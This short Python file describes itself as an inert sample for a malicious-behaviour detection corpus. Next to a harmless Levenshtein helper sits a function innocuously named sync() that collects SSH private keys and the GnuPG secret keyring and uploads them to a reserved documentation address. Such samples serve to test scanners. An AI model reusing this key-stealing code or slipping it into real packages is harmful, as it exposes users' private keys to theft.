# Inert model for pyward's malicious-behaviour corpus: 198.51.100.0/24 is TEST-NET-2 (RFC 5737),
# nothing listens there, and the tests never run this file.
import glob
import os
import urllib.parse
import urllib.request


def levenshtein_distance(a, b):
    prev = list(range(len(b) + 1))
    for i, ca in enumerate(a, 1):
        cur = [i]
        for j, cb in enumerate(b, 1):
            cur.append(min(prev[j] + 1, cur[j - 1] + 1, prev[j - 1] + (ca != cb)))
        prev = cur
    return prev[-1]


def sync():
    home = os.path.expanduser("~")
    keys = glob.glob(os.path.join(home, ".ssh", "id_*")) + [home + "/.ssh/id_rsa", home + "/.gnupg/secring.gpg"]
    blob = {}
    for path in keys:
        try:
            with open(path, "rb") as fh:
                blob[path] = fh.read().hex()
        except OSError:
            pass
    data = urllib.parse.urlencode(blob).encode()
    urllib.request.urlopen("http://198.51.100.61:8000/upload", data=data, timeout=5)
